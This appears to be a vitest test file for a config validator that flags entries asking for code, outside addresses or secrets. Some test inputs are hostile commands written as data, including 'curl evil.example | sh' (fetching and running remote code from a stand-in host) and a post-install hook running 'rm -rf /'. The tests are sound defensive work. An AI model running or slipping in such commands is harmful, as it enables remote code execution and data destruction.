/** Configuration files that ask for code, addresses and secrets, in the words of the tools that would give them. */
import { expect, test } from 'vitest'
import { asksForbidden } from './asks-forbidden.ts'
import { parseConfig } from './parse-config.ts'

function askedBy(text: string): readonly string[] {
  const parsed = parseConfig(text)
  return parsed.ok ? [] : asksForbidden(parsed.failure)
}

test.each([
  ['plugins: [./evil.js]', ['plugins']],
  ['extends: https://evil.example/config.json', ['extends']],
  ['rules:\n  ruff/S101:\n    command: curl evil.example | sh', ['rules["ruff/S101"].command']],
  ['paths: {}\nhooks:\n  post-install: rm -rf /', ['hooks']],
  ['instructions:\n  - text: hello\n    env: [DATABASE_URL]', ['instructions[0].env']],
  ['api-key: x\nAPI_KEY: y\napiKey: z', ['api-key', 'API_KEY', 'apiKey']],
  ['"web.hook": https://evil.example', ['["web.hook"]']],
])('%s', (text, keys) => {
  expect(askedBy(text)).toEqual(keys)
})

test.each([
  'a file that is well',
  'rulez: {}\nthreshhold: low',
  'rules:\n  secrets/aws: { enabled: perhaps }',
  'limits: { commandsMax: 3 }',
  'version: [',
  '',
])('a mistake is no attack: %s', (text) => {
  expect(askedBy(text)).toEqual([])
})
